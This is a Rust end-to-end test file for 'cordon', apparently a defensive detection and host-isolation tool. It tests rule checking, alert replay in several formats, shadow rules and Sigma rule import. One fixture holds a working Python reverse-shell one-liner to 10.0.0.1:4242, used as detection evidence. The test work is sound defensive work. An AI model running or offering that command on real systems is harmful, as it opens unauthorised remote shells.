//! End-to-end tests of `cordon rules check` and `cordon rules test`: the real binary, real files,
//! exact output and exit codes.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use cordon_tests::ScratchDir;
use serde_json::json;

fn repo() -> PathBuf {
    Path::new(&std::env::var_os("CARGO_MANIFEST_DIR").expect("run by cargo test"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn cordon(args: &[&str], dir: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cordon")).args(args).current_dir(dir).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

#[test]
fn check_accepts_the_examples_with_a_one_line_summary() {
    let output = cordon(&["rules", "check", "rules/examples"], &repo());
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert_eq!(
        text(&output.stdout),
        "ok: 4 rules (4 enabled) in 5 files, 19 tests, policy: protect [safety-critical, plc], max_automatic 20 within 10m\n"
    );
}

#[test]
fn check_reports_every_problem_with_file_line_and_column_and_exits_1() {
    let invalid = repo().join("rules/tests/invalid");
    let output = cordon(&["rules", "check", "response"], &invalid);
    assert_eq!(output.status.code(), Some(1));
    let expected = std::fs::read_to_string(invalid.join("response/expected.txt")).unwrap();
    assert_eq!(text(&output.stderr), expected + "15 problems in 1 file\n");
    assert_eq!(text(&output.stdout), "");
}

#[test]
fn check_reports_duplicate_ids_across_files() {
    let output = cordon(&["rules", "check", "duplicate-ids"], &repo().join("rules/tests/invalid"));
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output.stderr).starts_with(
        "duplicate-ids/b.yaml:6:5: duplicate rule id `same-id`\n  hint: first defined at duplicate-ids/a.yaml:1:5; ids are unique across the directory\n"
    ));
}

#[test]
fn a_missing_directory_is_an_error_with_exit_code_2() {
    let output = cordon(&["rules", "check", "no-such-dir"], &repo());
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(
        text(&output.stderr),
        "error: cannot read the rules directory no-such-dir: No such file or directory (os error 2)\n"
    );
}

#[test]
fn test_runs_the_rules_tests_and_passes_on_the_examples() {
    let output = cordon(&["rules", "test", "rules/examples"], &repo());
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stdout));
    let stdout = text(&output.stdout);
    assert!(stdout.contains("PASS credential-dumping: the third dump within ten minutes isolates the host (rules/examples/credential-dumping.yaml:26:5)\n"));
    assert!(stdout.ends_with("19 passed, 0 failed, 0 skipped\n"));
}

#[test]
fn a_failing_rule_test_is_reported_and_exits_1() {
    let output = cordon(&["rules", "test", "orchestrator/tests/fixtures/failing"], &repo());
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        text(&output.stdout),
        "FAIL wrong-expectation: expects 2h (orchestrator/tests/fixtures/failing/rules.yaml:6:5)\n    \
         decision 1 (expected at line 10): duration: expected 2h, got 1h\n      \
         got: e1 on h1: isolate automatic for 1h until 3600000 by [wrong-expectation] (matched)\n\
         0 passed, 1 failed, 0 skipped\n"
    );
}

#[test]
fn replay_prints_one_json_decision_per_line_and_flags_invalid_events() {
    let output = cordon(
        &[
            "rules",
            "test",
            "rules/examples",
            "--events",
            "orchestrator/tests/fixtures/replay.ndjson",
            "--tags-from-events",
            "--json",
        ],
        &repo(),
    );
    assert_eq!(output.status.code(), Some(1), "an invalid line makes the replay fail");
    assert_eq!(
        text(&output.stderr),
        "orchestrator/tests/fixtures/replay.ndjson:4: invalid event: missing required field `finding_info.uid`\n\
         replayed 5 events: 3 decisions, 1 invalid line\n"
    );
    let decisions: Vec<serde_json::Value> =
        text(&output.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let required: Vec<serde_json::Value> = decisions
        .iter()
        .map(|d| {
            let keys = ["host", "action", "mode", "duration_seconds", "rules", "event_id"];
            serde_json::Value::Object(keys.iter().map(|k| ((*k).to_owned(), d[*k].clone())).collect())
        })
        .collect();
    assert_eq!(
        required,
        vec![
            json!({"host": "ws-042", "action": "isolate", "mode": "automatic", "duration_seconds": 14_400, "rules": ["ransomware-encryption"], "event_id": "r-1"}),
            json!({"host": "ews-2", "action": "request_approval", "mode": "automatic", "duration_seconds": 28_800, "rules": ["ics-lateral-movement"], "event_id": "r-2"}),
            json!({"host": "plc-9", "action": "request_approval", "mode": "automatic", "duration_seconds": 14_400, "rules": ["ransomware-encryption"], "event_id": "r-4"}),
        ]
    );
    assert_eq!(decisions[0]["deadline_ms"], 1_700_014_400_000_i64);
    assert_eq!(decisions[0]["exclusions"]["allow"][0], "out,tcp,198.51.100.7/32,443");
    assert_eq!(decisions[2]["why"][1], json!({"kind": "protected", "tags": ["plc"]}));
}

#[test]
fn replay_without_json_prints_one_line_per_decision() {
    let output = cordon(
        &["rules", "test", "rules/examples", "--events", "orchestrator/tests/fixtures/replay.ndjson", "--tags-from-events"],
        &repo(),
    );
    assert_eq!(
        text(&output.stdout),
        "r-1 on ws-042: isolate automatic for 4h until 1700014400000 by [ransomware-encryption] (matched)\n\
         r-2 on ews-2: request_approval automatic for 8h by [ics-lateral-movement] (matched, approval_required)\n\
         r-4 on plc-9: request_approval automatic for 4h by [ransomware-encryption] (matched, protected)\n"
    );
}

/// Alerts of other tools replayed with `--format`: each tool's sample decides by its own fields,
/// and a broken alert is named with its format and line.
#[test]
fn replay_reads_ecs_falco_and_wazuh_alerts_with_their_format() {
    let replay = |format: &str| {
        let file = format!("orchestrator/tests/fixtures/alerts/{format}.ndjson");
        let output = cordon(
            &["rules", "test", "rules/tests/cases/formats", "--events", &file, "--format", format, "--json"],
            &repo(),
        );
        let decisions: Vec<serde_json::Value> =
            text(&output.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        (output.status.code(), decisions, text(&output.stderr))
    };
    let (code, decisions, stderr) = replay("ecs");
    assert_eq!(code, Some(1), "one alert of the sample is broken");
    assert_eq!(decisions.len(), 1, "{decisions:?}");
    assert_eq!((decisions[0]["host"].as_str(), decisions[0]["action"].as_str()), (Some("8a4f1c2e0b7d4e6f"), Some("isolate")));
    assert!(
        stderr.starts_with(
            "orchestrator/tests/fixtures/alerts/ecs.ndjson:3: invalid ecs alert: field `kibana.alert.severity` must be low, \
             medium, high or critical, found \"urgent\""
        ),
        "{stderr}"
    );
    let (code, decisions, _) = replay("falco");
    assert_eq!(code, Some(0));
    assert_eq!(decisions.len(), 1, "the payments shell, not the API contact: {decisions:?}");
    assert_eq!(decisions[0]["host"], "k8s-node-3");
    let (_, decisions, stderr) = replay("wazuh");
    assert_eq!(decisions.len(), 1, "{decisions:?}");
    assert_eq!((decisions[0]["host"].as_str(), decisions[0]["action"].as_str()), (Some("plc-gw-07"), Some("request_approval")));
    assert!(stderr.contains(":3: invalid wazuh alert: field `rule.level` must be an integer 0-15, found 99"), "{stderr}");
    // The same alerts read as OCSF are not events.
    let output = cordon(
        &["rules", "test", "rules/tests/cases/formats", "--events", "orchestrator/tests/fixtures/alerts/falco.ndjson"],
        &repo(),
    );
    assert!(text(&output.stderr).contains("invalid event: missing required field `device.uid`"), "{output:?}");
}

/// A replay decides as `cordon serve` does: shadow rules apart, with a state of their own, their
/// decisions marked.
#[test]
fn replay_marks_what_shadow_rules_would_do() {
    let output = cordon(
        &["rules", "test", "orchestrator/tests/fixtures/shadow", "--events", "orchestrator/tests/fixtures/shadow/events.ndjson"],
        &repo(),
    );
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(
        text(&output.stdout),
        "[shadow] s-1 on ws-1: isolate automatic for 1h until 1700003600000 by [watch-high] (matched)\n\
         s-2 on ws-2: isolate manual by [critical] (matched)\n\
         [shadow] s-2 on ws-2: isolate automatic for 1h until 1700003601000 by [watch-high] (matched)\n"
    );
    let output = cordon(
        &["rules", "test", "orchestrator/tests/fixtures/shadow", "--events", "orchestrator/tests/fixtures/shadow/events.ndjson", "--json"],
        &repo(),
    );
    let shadow: Vec<bool> = text(&output.stdout)
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap()["shadow"] == true)
        .collect();
    assert_eq!(shadow, [true, false, true]);
}

/// A fresh directory for one test, removed after it.
fn scratch(name: &str) -> ScratchDir {
    ScratchDir::new(&format!("cli-{name}"))
}

/// Every `SigmaHQ` Linux rule (vendored, rules/tests/sigmahq) either converts into a rule that
/// loads, or is listed with its reason; the counts pin what the shipped pipeline covers.
#[test]
fn import_sigma_converts_every_sigmahq_linux_rule_or_says_why() {
    let out = scratch("sigmahq");
    let sigmahq = repo().join("rules/tests/sigmahq/linux");
    let mut args = vec!["rules", "import-sigma", sigmahq.to_str().unwrap(), "--pipeline", "ocsf-linux"];
    args.extend(["--out", out.to_str().unwrap()]);
    args.extend(["--level", "medium=approval", "--level", "low=manual", "--level", "informational=approval"]);
    let output = cordon(&args, &repo());
    assert_eq!(output.status.code(), Some(1), "some rules cannot be converted: {output:?}");
    let stdout = text(&output.stdout);
    let files = walk_yaml(&sigmahq);
    assert_eq!(files.len(), 210);
    let (mut converted, mut reasons) = (0, std::collections::BTreeMap::<String, usize>::new());
    for file in &files {
        let line = stdout
            .lines()
            .find(|line| line.split_once(' ').is_some_and(|(_, rest)| rest.starts_with(&format!("{}", file.display()))))
            .unwrap_or_else(|| panic!("{} is neither converted nor listed:\n{stdout}", file.display()));
        if line.starts_with("converted ") {
            converted += 1;
        } else {
            let reason = line.split_once(": ").expect("skipped FILE: REASON").1;
            assert!(!reason.is_empty(), "{line}");
            *reasons.entry(reason.split(':').next().unwrap().to_owned()).or_default() += 1;
        }
    }
    assert_eq!(converted, 133, "{stdout}");
    assert_eq!(reasons["pipeline ocsf-linux"], 53, "auditd: {reasons:?}");
    assert_eq!(reasons["pipeline ocsf-linux maps nothing for logsource product linux"], 15, "{reasons:?}");
    assert_eq!(
        reasons["no mapping in pipeline ocsf-linux for logsource product linux, category network_connection"],
        2,
        "Initiated: {reasons:?}"
    );
    let summary = format!("133 converted into {}, 77 could not be converted, 0 skipped for their level\n", out.display());
    assert!(stdout.ends_with(&summary), "{stdout}");
    let check = cordon(&["rules", "check", out.to_str().unwrap()], &repo());
    assert_eq!(text(&check.stdout), "ok: 133 rules (133 enabled) in 133 files, 0 tests, policy: none\n", "{check:?}");
}

fn walk_yaml(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files.extend(walk_yaml(&path));
        } else if path.extension().is_some_and(|ext| ext == "yml") {
            files.push(path);
        }
    }
    files
}

/// The default levels (critical automatic 4h, high approval, the rest skipped), shadow rules, and a
/// converted rule deciding on an OCSF Detection Finding whose evidence is the process it names.
#[test]
fn imported_rules_are_shadow_rules_that_decide_on_detection_evidence() {
    let out = scratch("import-decide");
    let sigma = repo().join("rules/tests/sigmahq/linux/process_creation/proc_creation_lnx_python_reverse_shell.yml");
    let output =
        cordon(&["rules", "import-sigma", sigma.to_str().unwrap(), "--pipeline", "ocsf-linux", "--out", out.to_str().unwrap()], &repo());
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let rule = out.join("sigma-proc-creation-lnx-python-reverse-shell.yaml");
    assert_eq!(
        text(&output.stdout),
        format!(
            "converted {} -> {} (level high: approval, shadow)\n1 converted into {}, 0 could not be converted, 0 skipped for their level\n",
            sigma.display(),
            rule.display(),
            out.display()
        )
    );
    let events = out.join("events.ndjson");
    let finding = |uid: &str, cmd_line: &str| {
        json!({"class_uid": 2004, "time": 1_700_000_000_000_u64, "severity_id": 4, "device": {"uid": "ws-1"},
               "finding_info": {"uid": uid, "title": "suspicious process"},
               "evidences": [{"process": {"file": {"path": "/usr/bin/python3"},
                                          "cmd_line": cmd_line}}]})
        .to_string()
    };
    std::fs::write(
        &events,
        [
            finding("f-1", "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));import pty;pty.spawn(\"sh\")'"),
            finding("f-2", "python3 -m http.server"),
        ]
        .join("\n"),
    )
    .unwrap();
    let replay = cordon(&["rules", "test", out.to_str().unwrap(), "--events", events.to_str().unwrap()], &repo());
    assert_eq!(
        text(&replay.stdout),
        "[shadow] f-1 on ws-1: request_approval manual by [sigma-proc-creation-lnx-python-reverse-shell] (matched, approval_required)\n",
        "{replay:?}"
    );
}

/// Re-importing overwrites the import's own files; a file someone wrote by hand is never
/// overwritten, and an id another rule holds is not taken.
#[test]
fn import_sigma_overwrites_only_its_own_files_and_keeps_ids_unique() {
    let out = scratch("import-own");
    let sigma = repo().join("rules/tests/sigmahq/linux/process_creation/proc_creation_lnx_python_reverse_shell.yml");
    let import = || {
        cordon(
            &["rules", "import-sigma", sigma.to_str().unwrap(), "--pipeline", "ocsf-linux", "--out", out.to_str().unwrap(), "--live"],
            &repo(),
        )
    };
    assert_eq!(import().status.code(), Some(0));
    let rule = out.join("sigma-proc-creation-lnx-python-reverse-shell.yaml");
    assert!(!std::fs::read_to_string(&rule).unwrap().contains("shadow: true"), "--live writes live rules");
    assert_eq!(import().status.code(), Some(0), "its own file is overwritten");

    let hand_written = std::fs::read_to_string(&rule).unwrap().lines().skip(1).collect::<Vec<_>>().join("\n");
    std::fs::write(&rule, &hand_written).unwrap();
    let output = import();
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output.stdout).contains("exists and was not written by the import"), "{output:?}");
    assert_eq!(std::fs::read_to_string(&rule).unwrap(), hand_written, "left as it was");

    std::fs::remove_file(&rule).unwrap();
    std::fs::write(out.join("mine.yaml"), hand_written.replace("title:", "# the same id\ntitle:")).unwrap();
    let output = import();
    assert_eq!(output.status.code(), Some(1));
    assert!(
        text(&output.stdout).contains(&format!(
            "rule id sigma-proc-creation-lnx-python-reverse-shell is taken by {}",
            out.join("mine.yaml").display()
        )),
        "{output:?}"
    );
    assert!(!rule.exists());
}

/// Bad command lines and pipelines are errors naming the problem (exit 2), before anything is
/// written.
#[test]
fn import_sigma_refuses_unknown_pipelines_broken_pipelines_and_bad_levels() {
    let out = scratch("import-bad");
    let sigma = repo().join("rules/tests/sigmahq/linux/file_event");
    let run = |extra: &[&str]| {
        let mut args = vec!["rules", "import-sigma", sigma.to_str().unwrap(), "--out", out.to_str().unwrap()];
        args.extend(extra);
        cordon(&args, &repo())
    };
    let output = run(&["--pipeline", "ocsf-windows"]);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(text(&output.stderr), "error: no pipeline named `ocsf-windows` (cordon ships ocsf-linux) and no such file\n");
    let pipeline = out.join("broken.yml");
    std::fs::write(&pipeline, "name: broken\ntransformations:\n  - type: drop_detection_item\n").unwrap();
    let output = run(&["--pipeline", pipeline.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        text(&output.stderr).contains("broken.yml:3:11: transformation type `drop_detection_item` is not supported by cordon"),
        "{output:?}"
    );
    let output = run(&["--pipeline", "ocsf-linux", "--level", "severe=manual"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).contains("`severe` is not a Sigma level"), "{output:?}");
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 1, "nothing written but the test's pipeline");
}
